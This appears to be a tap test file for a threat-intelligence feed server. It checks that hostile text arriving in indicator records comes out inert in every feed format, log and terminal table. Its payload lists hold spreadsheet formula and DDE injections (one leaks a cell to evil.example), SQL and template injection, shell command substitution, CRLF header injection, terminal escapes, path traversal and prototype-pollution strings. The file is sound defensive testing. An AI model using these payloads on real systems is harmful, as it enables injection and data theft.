/**
 * Texts of attackers in everything that a vendor sends, through everything that the server writes: read back by readers of
 * others, each is the text that it was and nothing besides.
 */
import { PassThrough } from 'node:stream'
import { parse as parseCsv } from 'csv-parse/sync'
import t, { type Test } from 'tap'
import { createLog } from '../../src/cli/log.ts'
import { table } from '../../src/cli/table.ts'
import { harmless, visible } from '../../src/cli/terminal.ts'
import { consumers } from '../../src/feeds/recipes.ts'
import { emptyCorpus } from '../../src/sources/threatconnect/simulator/corpus/corpus.ts'
import { startThreatConnectSimulator } from '../../src/sources/threatconnect/simulator/index.ts'
import { type StoredApp, sourceEntry, storedApp } from '../app.ts'
import { parsePattern } from '../feeds/stix/pattern-parser.ts'
import { readExposition } from '../telemetry/exposition.ts'
import { hostile as markup } from '../web/hostile.ts'

t.setTimeout(60_000)

/** Beside markup: what ends a line, a cell, a text, a pattern, a comment, a template or a command, or steers a reader. */
const hostile = [
  ...markup,
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  '"; DROP TABLE indicator; --',
  "' OR '1'='1",
  "'] OR [url:value = 'x",
  "\\' OR 1=1",
  'a\\',
  'x"y\'z`w',
  '{{ 7 * 7 }}',
  '{% for i in range(999999999) %}x{% endfor %}',
  '{% include "/etc/passwd" %}',
  '{{ "".__class__.__mro__ }}',
  '$(touch /tmp/x)',
  '`touch /tmp/x`',
  '; touch /tmp/x',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31mred',
  'a\u202egnp.exe',
  'a\u2066b\u2069',
  'a\u200fb\u061cc',
  'a\u2028b\u2029c',
  'a\u0000b',
  'a\u007fb\u0085c',
  'name"} 1\nfeed_server_up{x="',
  '%0d%0aSet-Cookie: a=b',
  '../../../etc/passwd',
  '..\\..\\windows',
  'constructor',
  'toString',
]
/** Of these a value can't hold all: line ends are made blanks, or make a value unreadable. */
const breaking = [
  'a\n203.0.113.99',
  'a\r\nSet-Cookie: a=b',
  'a\n# comment',
  'x\n\n[url:value = "y"]',
  '\n=1+1',
]

const profiles = [
  'xsoar',
  'excel',
  'hosts',
  'rpz',
  'panos-url',
  'panos-domain',
  'proxysg',
  'mwg',
  'checkpoint-csv',
]

async function world(t: Test): Promise<StoredApp & { readonly lines: string[] }> {
  const owner = { id: 77_001, name: '<b>owner</b>\u001b[31m\u202e', type: 'Source' } as const
  const texts = [...hostile, ...breaking]
  const told = (text: string) => ({ owner: owner.name, tags: [text], description: text, source: text })
  const simulator = await startThreatConnectSimulator({
    corpus: { ...emptyCorpus, owners: [...emptyCorpus.owners, owner] },
    indicators: texts.flatMap((text, at) => [
      { type: 'User Agent', summary: `${text} ${at}`, ...told(text) },
      { type: 'Mutex', summary: `${text} m${at}`, ...told(text) },
      { type: 'Registry Key', summary: `HKEY_USERS\\${text} ${at}`, ...told(text) },
      { type: 'Host', summary: `host${at}.example`, ...told(text) },
      { type: 'URL', summary: `https://host${at}.example/${text}`, ...told(text) },
      { type: 'EmailAddress', summary: `${text}${at}@mail.example`, ...told(text) },
      { type: 'Address', summary: text, ...told(text) },
    ]),
  })
  t.teardown(() => simulator.close())
  const lines: string[] = []
  const stream = new PassThrough()
  stream.on('data', (chunk: Buffer) => lines.push(...chunk.toString().split('\n').filter(Boolean)))
  const log = await createLog({ level: 'debug', secrets: [], stream })
  const names = ['all', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'con', 'nul', 'a.b']
  const whole = await storedApp(
    t,
    {
      server: { publicUrl: 'https://feeds.example.org' },
      sources: [{ every: 'off', ...sourceEntry(simulator.url, { name: 'constructor' }) }],
      feeds: names.map((name) => ({ name, maxTlp: 'red', shrinkGuard: 'off' })),
    },
    log,
  )
  await whole.schedule.start()
  const url = '/api/v1/sources/constructor/fetch?wait=60'
  const run = (await whole.app.inject({ method: 'POST', url })).json()
  t.equal(run.status, 'succeeded')
  t.equal(run.received, texts.length * 7)
  return { ...whole, lines }
}

interface Served {
  readonly value: string
  readonly type: string
  readonly description?: string
}

const steering = /[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u

t.test('whatever stands in a record comes out as that text: markup, formulas, patterns, lines', async (t) => {
  const { app, lines } = await world(t)
  const get = async (url: string) => {
    const answer = await app.inject(url)
    t.equal(answer.statusCode, 200, url)
    t.equal(answer.headers['x-content-type-options'], 'nosniff', url)
    t.match(String(answer.headers['content-security-policy']), /default-src 'none'/, url)
    t.notMatch(String(answer.headers['content-type']), /html|xml|javascript/, url)
    const odd = Object.values(answer.headers).filter((value) => /[\r\n<>]\w|[^\x20-\x7e]/.test(String(value)))
    t.strictSame(odd, [], url)
    return answer.body
  }
  const entries: readonly Served[] = JSON.parse(await get('/feeds/all.json')).data
  const values = new Set(entries.map(({ value }) => value))
  t.ok(entries.length > hostile.length * 5, `${entries.length} entries`)
  const listed = (await get('/feeds/all.txt')).split('\n').slice(0, -1)
  t.strictSame(
    listed.filter((line) => !values.has(line)),
    [],
    'each line is a value',
  )
  t.ok(listed.length > entries.length / 2)
  t.notOk(listed.includes('203.0.113.99'), 'no value makes a line of its own')
  const csv = parseCsv(await get('/feeds/all.csv'), { columns: true, bom: true }) as readonly Served[]
  const holdable = [...values].filter((value) => !value.includes('\0'))
  t.equal(values.size - holdable.length, 3, 'a NUL is in JSON alone')
  t.strictSame(new Set(csv.map(({ value }) => value)), new Set(holdable))
  const described = new Set(csv.map(({ description = '' }) => description))
  t.strictSame(
    entries.filter(({ description = '' }) => !described.has(description)),
    [],
  )
  const cells = (
    parseCsv(await get('/feeds/all.csv?profile=excel'), { bom: true }) as readonly string[][]
  ).flat()
  t.strictSame(
    cells.filter((cell) => /^[\s\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell)),
    [],
    'no cell is a formula',
  )
  const { objects } = JSON.parse(await get('/feeds/all.stix.json'))
  const patterns = objects.flatMap(({ pattern }: { pattern?: string }) =>
    pattern === undefined ? [] : [pattern],
  )
  t.ok(patterns.length > hostile.length * 3)
  t.strictSame(
    patterns.filter((pattern: string) => parsePattern(pattern).length !== 1),
    [],
    'one comparison each',
  )
  for (const url of [
    '/feeds/all.ndjson',
    '/feeds/all/hashes.csv',
    '/feeds/all/manifest.json',
    '/feeds/all.misp.json',
  ])
    await get(url)
  for (const profile of profiles) {
    const text = await get(`/feeds/all?profile=${profile}`)
    t.notMatch(text, /\n203\.0\.113\.99\r?\n/, profile)
  }
  for (const name of ['constructor', 'toString', 'hasOwnProperty', 'valueOf', 'con', 'nul', 'a.b']) {
    t.equal((await get(`/feeds/${name}.txt`)).split('\n').length - 1, listed.length, name)
    if (name === 'constructor')
      for (const consumer of consumers) await get(`/api/v1/feeds/${name}/recipes/${consumer}?format=markdown`)
  }
  await get('/api/v1/indicators?limit=1000')
  await get('/api/v1/changes')
  await get('/api/v1/feeds')
  await get('/api/v1/sources/constructor/runs')
  const { faults } = readExposition((await app.inject('/metrics')).body)
  t.strictSame(faults, [])
  t.strictSame(
    lines.filter((line) => steering.test(line)),
    [],
    'no line of the log steers a terminal',
  )
  t.strictSame(
    lines.flatMap((line) => Object.keys(Object(JSON.parse(line)))).filter((key) => key === 'Set-Cookie'),
    [],
  )
})

t.test(
  'names that lead elsewhere, and names that every object has, are no feed, no file and no member',
  async (t) => {
    const { app } = await storedApp(t, { feeds: [{ name: 'all' }] })
    const prototype = Object.getOwnPropertyNames(Object.prototype).join()
    const names = [
      ...[
        '..',
        '../all',
        '..%2fall',
        '%2e%2e/all',
        '%2e%2e%2fall',
        '..%5call',
        '..\\all',
        'all/..',
        'all%00',
        'all%00.txt',
      ],
      ...[
        'ALL',
        'All',
        'ａｌｌ',
        'all.',
        'all ',
        '%20all',
        'all%0a',
        'a\u0300ll',
        'al\u00adl',
        '%61ll%2f',
        'all;x',
        'all::$DATA',
      ],
      ...[
        '__proto__',
        'constructor',
        'prototype',
        'toString',
        'hasOwnProperty',
        'con',
        'nul',
        '%ff',
        '%c0%ae',
        '/etc/passwd',
      ],
    ]
    const found: string[] = []
    // Whoever sends an address takes dots away first.
    for (const name of names.filter((each) => each !== '..' && !each.endsWith('/..'))) {
      for (const before of [
        '/feeds/',
        '/api/v1/feeds/',
        '/taxii2/feeds/collections/',
        '/docs/',
        '/docs/static/',
        '/',
        '/assets/',
      ]) {
        for (const after of ['', '.txt', '.json', '/manifest.json', '/report']) {
          const { statusCode } = await app.inject({
            url: encodeURI(before + name + after).replaceAll('%25', '%'),
          })
          if (statusCode !== 404 && statusCode !== 400) found.push(`${before}${name}${after}: ${statusCode}`)
        }
      }
    }
    t.strictSame(found, [])
    for (const query of [
      '__proto__[a]=1',
      '__proto__.a=1',
      'constructor[prototype][a]=1',
      'tags[__proto__]=1',
      '__proto__=1',
    ]) {
      for (const url of ['/api/v1/tc-get-indicators', '/api/v1/indicators', '/feeds/all.json']) {
        const { statusCode } = await app.inject(`${url}?${query}`)
        t.ok([400, 404, 406].includes(statusCode), `${url}?${query}: ${statusCode}`)
      }
    }
    const prefer = { 'x-constructor': '1', prototype: '1', __proto__: '1' }
    t.equal((await app.inject({ url: '/livez', headers: prefer })).statusCode, 200)
    t.equal(Object.getOwnPropertyNames(Object.prototype).join(), prototype)
  },
)

t.test('what a client says of itself makes no line of the log and steers no terminal', async (t) => {
  for (const isTTY of [false, true]) {
    let written = ''
    const stream = Object.assign(new PassThrough(), { isTTY })
    stream.on('data', (chunk) => {
      written += chunk
    })
    const log = await createLog({ level: 'trace', secrets: [], stream })
    const texts = [...hostile, ...breaking]
    for (const text of texts) {
      log.info({ name: text, [`of ${text}`]: { deep: [text] }, err: new Error(text) }, `about ${text}`)
    }
    await new Promise((resolve) => setImmediate(resolve))
    const lines = written.split('\n').slice(0, -1)
    t.strictSame(
      lines.filter((line) => steering.test(line)),
      [],
      `no control character, terminal: ${isTTY}`,
    )
    if (isTTY)
      t.strictSame(
        lines.filter((line) => /^(203|#|Set-Cookie|=1|\[url)/.test(line)),
        [],
        'no line of theirs',
      )
    else {
      t.equal(lines.length, texts.length)
      t.strictSame(
        lines.map((line) => JSON.parse(line).msg),
        texts.map((text) => `about ${text}`),
        'as they were',
      )
    }
  }
})

t.test('no text of a record steers the terminal that a table or JSON is printed on', (t) => {
  const texts = [...hostile, ...breaking]
  const drawn = visible(
    table(
      ['value', 'tags'],
      texts.map((text) => [text, text]),
      80,
    ),
  )
  t.strictSame(
    drawn.split('\n').filter((line) => steering.test(line)),
    [],
  )
  for (const text of texts) {
    t.notMatch(harmless(text), steering)
    t.equal(JSON.parse(visible(JSON.stringify(text))), text, 'JSON stays the same text')
  }
  t.end()
})
